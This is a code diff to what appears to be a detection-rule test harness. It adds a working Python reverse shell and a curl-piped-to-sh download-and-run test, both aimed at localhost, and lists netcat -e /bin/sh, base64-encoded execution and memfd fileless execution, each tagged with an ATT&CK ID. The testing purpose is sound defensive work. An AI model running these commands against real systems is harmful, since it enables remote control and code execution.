@@ -53,6 +53,36 @@ os.waitpid(child, 0)
 libc.ptrace(17, child, None, None)
 os.kill(child, signal.SIGKILL)
 """
+_REVERSE_SHELL = """
+import socket, subprocess
+shell = "import os, socket, subprocess; s = socket.create_connection(('127.0.0.1', PORT)); "
+shell += "[os.dup2(s.fileno(), n) for n in (0, 1, 2)]; subprocess.run(['/bin/sh'])"
+with socket.create_server(("127.0.0.1", 0)) as server:
+    server.settimeout(60)
+    taken = subprocess.Popen(["python3", "-c", shell.replace("PORT", str(server.getsockname()[1]))])
+    connection, _ = server.accept()
+    connection.sendall(b"echo $((6 * 7))\\nexit\\n")
+    with connection.makefile() as answers:
+        assert answers.readline() == "42\\n"
+taken.wait()
+"""
+# Machines without curl get one in Python.
+_DOWNLOAD = """
+mkdir "$WORK/web"
+echo 'touch "$WORK/ran"' > "$WORK/web/index.html"
+python3 -u -m http.server --bind 127.0.0.1 --directory "$WORK/web" 0 > "$WORK/log" 2>&1 &
+server=$!
+trap 'kill $server' EXIT
+until url=$(grep -o 'http://[^)]*' "$WORK/log" 2> /dev/null); do sleep 0.1; done
+command -v curl > /dev/null || {
+    echo '#!/usr/bin/python3' > "$WORK/curl"
+    echo 'import sys, urllib.request; print(urllib.request.urlopen(sys.argv[-1]).read().decode())' >> "$WORK/curl"
+    chmod 755 "$WORK/curl"
+    PATH="$WORK:$PATH"
+}
+sh -c "curl -s $url | sh"
+test -f "$WORK/ran"
+"""
 _BECOME_ROOT = """
 import ctypes, os
 libc = ctypes.CDLL(None, use_errno=True)
@@ -162,10 +192,10 @@ ACTIONS = (
         "reverse shell in Python",
         "T1059.006",
         ("Shell bound to a connection by its arguments",),
-        "python3 -c 'import socket, os, subprocess; f = (os.dup2, \"/bin/sh\")'",
+        python(_REVERSE_SHELL),
     ),
     Action("netcat remote code execution", "T1059", ("Netcat runs a program",), renamed("nc", "-c true -e /bin/sh")),
-    Action("download run at once", "T1105", ("Download run at once",), "sh -c 'true || curl http://192.0.2.1/ | sh'"),
+    Action("download run at once", "T1105", ("Download run at once",), _DOWNLOAD),
     Action("encoded command", "T1027", ("Encoded command run",), "sh -c 'echo dHJ1ZQo= | base64 -d | sh'"),
     Action("memfd execution", "T1620", ("Fileless execution",), python(_MEMFD)),
     Action(
